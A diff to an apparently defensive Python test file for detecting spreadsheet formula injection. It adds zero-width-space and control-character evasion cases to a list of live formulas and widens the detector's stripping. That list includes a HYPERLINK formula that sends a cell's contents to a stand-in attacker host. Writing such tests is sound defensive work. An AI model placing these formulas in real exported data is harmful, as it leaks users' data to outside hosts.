@@ -388,6 +388,8 @@ def test_03b_every_total_of_several_says_what_has_to_be_fixed_in_advance():
 
 # What a spreadsheet computes, or may compute once the cell is cut at another separator.
 LIVE = [
+    "\N{ZERO WIDTH SPACE}=1",
+    "\x01=1",
     '=HYPERLINK("http://evil.example/?"&B2)',
     "=1+1",
     "@SUM(A1:A9)",
@@ -406,7 +408,7 @@ PLAIN_TEXTS = ["P-1", "a=b", "-3.5", "+1,5", "-1e-3", "x;-2", "mail@clinic.examp
 
 def starts_a_formula(text):
     """Whether a cell computes something where a comma, a semicolon, a tab or a line's end starts a cell."""
-    parts = [part.lstrip(' \r\n\t"\0\ufeff') for part in re.split("[;\t\r\n]", text)]
+    parts = [part.lstrip(' \r\n\t"\0\x01\u200b\ufeff') for part in re.split("[;\t\r\n]", text)]
     signs = [part for part in parts if part.startswith(("=", "@", "+", "-", "\N{FULLWIDTH EQUALS SIGN}"))]
     return text.startswith(("\t", "\r", "\n")) or any(not is_number(part) for part in signs)
 
